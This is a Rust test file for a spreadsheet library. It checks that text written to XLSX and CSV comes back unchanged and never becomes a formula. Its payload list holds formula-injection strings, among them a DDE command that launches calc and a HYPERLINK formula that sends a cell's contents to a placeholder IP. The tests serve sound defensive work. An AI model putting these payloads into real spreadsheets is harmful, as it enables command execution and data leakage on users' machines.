//! H6: what goes out as text comes back as the same text and is never a formula.

use proptest::prelude::*;
use sheets::{CsvWriter, Fault, Limits, Sheet, Table, Value, Workbook, formula, read};

/// Texts that attack a spreadsheet or its writer.
const PAYLOADS: &[&str] = &[
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"点\")",
    "=IMPORTXML(1)",
    "+1+1",
    "+8613800000000",
    "-1+1",
    "-",
    "@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    "\rx",
    "\nx",
    " =1",
    "  =1",
    "\u{3000}=1",
    "\u{A0}=1",
    "\u{200B}=1",
    "\u{FEFF}=1",
    " \t\r\n=1",
    "'=1",
    "''=1",
    "'",
    "''",
    "' =1",
    "\"=1\"",
    "\"",
    "=1\r\n=2",
    "a\r\nb",
    "a\rb",
    "a\nb",
    "a,b",
    "a;b",
    "a\tb",
    "sep=;",
    "<r><t>x</t></r>",
    "<r></r>",
    "<r>_x0041_</r>",
    "<r> </r>",
    "</t></si>",
    "&lt;",
    "_x0041_",
    "_x000D_",
    "_x005F_",
    "\u{1}",
    "\u{1}\u{2}\u{3}\u{4}\u{5}",
    "\u{1A}",
    "\u{1B}",
    "\u{7F}",
    "\u{FFFE}",
    "\u{FFFF}",
    "\u{FFFD}",
    "𠮷",
    "\u{E000}",
    " 前后 ",
    "1E+17",
    "00123",
    "990101199001010015",
    "TRUE",
    "2020-01-24",
    "%",
    "|cmd",
    "\\",
    "{=1}",
];

fn through_xlsx(texts: &[String]) -> Table {
    let mut sheet = Sheet::new("表").header(["文字", "数"]);
    for text in texts {
        sheet.push_row([Value::text(text), Value::Int(-5)]);
    }
    read(&Workbook::new().sheet(sheet).to_bytes().unwrap(), "x.xlsx", &Limits::upload()).unwrap()
}

fn through_csv(texts: &[String]) -> Table {
    let mut csv = CsvWriter::new(Vec::new()).unwrap();
    csv.row(&[Value::text("文字"), Value::text("数")]).unwrap();
    for text in texts {
        csv.row(&[Value::text(text), Value::Int(-5)]).unwrap();
    }
    read(&csv.finish().unwrap(), "x.csv", &Limits::upload()).unwrap()
}

fn assert_same(table: &Table, texts: &[String]) {
    assert_eq!(table.rows.len(), texts.len() + 1);
    for (row, text) in table.rows[1..].iter().zip(texts) {
        assert_eq!(&row.cell(0).text(), text, "{text:?}");
        assert_eq!(row.cell(1).text(), "-5", "{text:?}");
    }
}

#[test]
fn payloads_come_back_as_they_were() {
    let texts: Vec<String> = PAYLOADS.iter().map(|text| (*text).to_string()).collect();
    assert!(texts.len() >= 40);
    assert_same(&through_xlsx(&texts), &texts);
    // A file of CSV cannot hold U+FFFD in the sense that damaged files show it; it can here.
    assert_same(&through_csv(&texts), &texts);
}

#[test]
fn no_field_of_a_csv_file_begins_a_formula() {
    for text in PAYLOADS {
        let field = formula::guard(text);
        assert!(!formula::is_dangerous(&field), "{text:?} became {field:?}");
    }
}

/// All parts of a workbook as text.
fn parts(bytes: &[u8]) -> Vec<(String, String)> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    (0..archive.len())
        .map(|at| {
            let mut part = archive.by_index(at).unwrap();
            let mut text = String::new();
            std::io::Read::read_to_string(&mut part, &mut text).unwrap();
            (part.name().unwrap().to_string(), text)
        })
        .collect()
}

#[test]
fn no_cell_of_a_workbook_is_a_formula_and_nothing_links_outside() {
    let mut sheet = Sheet::new("=1+1").title("=1+1").band("=1+1").header(PAYLOADS.iter().copied());
    sheet.push_row(PAYLOADS.iter().map(|text| Value::text(*text)));
    let sheet = sheet.totals(PAYLOADS.iter().map(|text| Value::text(*text)));
    let bytes = Workbook::new().sheet(sheet).to_bytes().unwrap();
    for (name, text) in parts(&bytes) {
        assert!(!name.contains("externalLink"), "{name}");
        assert!(!text.contains("TargetMode=\"External\""), "{name}");
        if name.starts_with("xl/worksheets/") {
            assert!(!text.contains("<f>") && !text.contains("<f "), "{name}");
        }
        if name == "xl/styles.xml" {
            assert!(text.contains("quotePrefix=\"1\""));
        }
    }
}

#[test]
fn typed_values_come_back_typed() {
    let values = [
        (Value::Int(-5), "-5"),
        (Value::Int(990_101_199_001_010_015), "990101199001010015"),
        (Value::Decimal(36.6), "36.6"),
        (Value::date(2020, 1, 24), "2020-01-24"),
        (
            Value::DateTime { year: 2020, month: 1, day: 24, hour: 15, minute: 0, second: 1 },
            "2020-01-24 15:00:01",
        ),
        (Value::Bool(true), "TRUE"),
    ];
    let mut sheet = Sheet::new("表");
    sheet.push_row(values.iter().map(|(value, _)| value.clone()));
    let bytes = Workbook::new().sheet(sheet).to_bytes().unwrap();
    let table = read(&bytes, "x.xlsx", &Limits::upload()).unwrap();
    let mut csv = CsvWriter::new(Vec::new()).unwrap();
    csv.row(values.iter().map(|(value, _)| value)).unwrap();
    let from_csv = read(&csv.finish().unwrap(), "x.csv", &Limits::upload()).unwrap();
    for (column, (value, text)) in values.iter().enumerate() {
        assert_eq!(table.rows[0].cell(column).text(), *text, "{value:?}");
        assert_eq!(from_csv.rows[0].cell(column).text(), *text, "{value:?}");
    }
    assert!(matches!(table.rows[0].cells[0], sheets::Cell::Number(_)));
    assert!(matches!(table.rows[0].cells[3], sheets::Cell::Date { .. }));
    assert!(matches!(table.rows[0].cells[4], sheets::Cell::DateTime { .. }));
}

#[test]
fn a_percentage_is_never_rounded_up_to_100() {
    let cases = [(0.9876, "98.76%"), (0.999_999, "99.99%"), (1.0, "100.00%"), (0.0, "0.00%")];
    for (share, text) in cases {
        let mut csv = CsvWriter::new(Vec::new()).unwrap();
        csv.row(&[Value::Percent2(share)]).unwrap();
        assert_eq!(csv.finish().unwrap(), format!("\u{FEFF}{text}\r\n").into_bytes());
        let sheet = Sheet::new("a").row([Value::Percent2(share)]);
        let bytes = Workbook::new().sheet(sheet).to_bytes().unwrap();
        let table = read(&bytes, "x.xlsx", &Limits::upload()).unwrap();
        let number = text.trim_end_matches('%').parse::<f64>().unwrap() / 100.0;
        assert_eq!(table.rows[0].cells[0], sheets::Cell::Number((number * 1e4).round() / 1e4));
    }
}

#[test]
fn what_cannot_be_written_is_refused_with_its_place() {
    let place = |row: u32, column: &str| Fault::NotWritable { row, column: column.to_string() };
    let write = |value: Value| {
        let sheet = Sheet::new("a").header(["甲", "乙"]).row([Value::Blank, value]);
        Workbook::new().sheet(sheet).to_bytes().map(|_| ())
    };
    assert_eq!(write(Value::text("x".repeat(32_768))), Err(place(2, "B")));
    assert_eq!(write(Value::text("x".repeat(32_767))), Ok(()));
    assert_eq!(write(Value::date(2021, 2, 29)), Err(place(2, "B")));
    assert_eq!(write(Value::date(1899, 1, 1)), Err(place(2, "B")));
    assert_eq!(Workbook::new().to_bytes(), Err(Fault::NoSheet));
}

#[test]
fn a_workbook_has_titles_band_frozen_headings_filter_and_totals() {
    let sheet = |name: &str| {
        Sheet::new(name)
            .title("示例县 日报")
            .band("演示数据 / SYNTHETIC")
            .header(["单位", "发热"])
            .row([Value::text("平安村"), Value::Int(1)])
            .totals([Value::text("合计"), Value::Int(1)])
    };
    let book = Workbook::new()
        .sheet(sheet("日报/1月"))
        .sheet(sheet("日报_1月"))
        .sheet(sheet(&"长".repeat(40)))
        .made_at(Value::DateTime { year: 2021, month: 1, day: 24, hour: 15, minute: 0, second: 0 });
    let bytes = book.to_bytes().unwrap();
    assert_eq!(bytes, book.to_bytes().unwrap(), "the same table gives the same bytes");
    let table = read(&bytes, "x.xlsx", &Limits::upload()).unwrap();
    let expected = "1:示例县 日报\n2:演示数据 / SYNTHETIC\n3:单位|发热\n4:平安村|1\n5:合计|1";
    assert_eq!(crate::support::shown(&table), expected);
    assert_eq!(table.sheet.as_deref(), Some("日报_1月"));
    assert_eq!(table.other_sheets, ["日报_1月 (2)".to_string(), "长".repeat(31)]);
    let parts = parts(&bytes);
    let part = |name: &str| &parts.iter().find(|(part, _)| part == name).unwrap().1;
    assert!(part("docProps/core.xml").contains("2021-01-24T15:00:00Z"));
    let xml = part("xl/worksheets/sheet1.xml");
    assert!(xml.contains(r#"<pane ySplit="3" topLeftCell="A4""#), "{xml}");
    assert!(xml.contains(r#"<autoFilter ref="A3:B4"/>"#), "{xml}");
}

/// Text with more than its share of dangerous characters.
fn hostile_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        prop::sample::select(vec![
            "=", "+", "-", "@", "＝", "＋", "－", "＠", "'", "\"", "\t", "\r", "\n", " ", "\u{3000}", ",",
            ";", "<r>", "</r>", "_x", "000D_", "&", "<", "\u{0}1", "x", "村",
        ])
        .prop_map(String::from),
        any::<char>().prop_map(String::from),
        "[a-z]{1,5}",
    ];
    let text = prop::collection::vec(piece, 1..12)
        .prop_map(|pieces| pieces.concat().replace('\0', ""))
        .prop_filter("an empty text is an empty cell", |text| !text.is_empty());
    // Text that the writer's library would take for ready-made XML.
    (text, prop::bool::weighted(0.1))
        .prop_map(|(text, is_xml)| if is_xml { format!("<r>{text}</r>") } else { text })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn any_text_comes_back_from_a_workbook(texts in prop::collection::vec(hostile_text(), 1..8)) {
        assert_same(&through_xlsx(&texts), &texts);
    }

    #[test]
    fn any_text_comes_back_from_csv(texts in prop::collection::vec(hostile_text(), 1..8)) {
        assert_same(&through_csv(&texts), &texts);
    }

    #[test]
    fn guarding_is_undone_exactly(text in hostile_text()) {
        let field = formula::guard(&text);
        prop_assert!(!formula::is_dangerous(&field));
        prop_assert_eq!(formula::unguard(&field), text.as_str());
    }
}
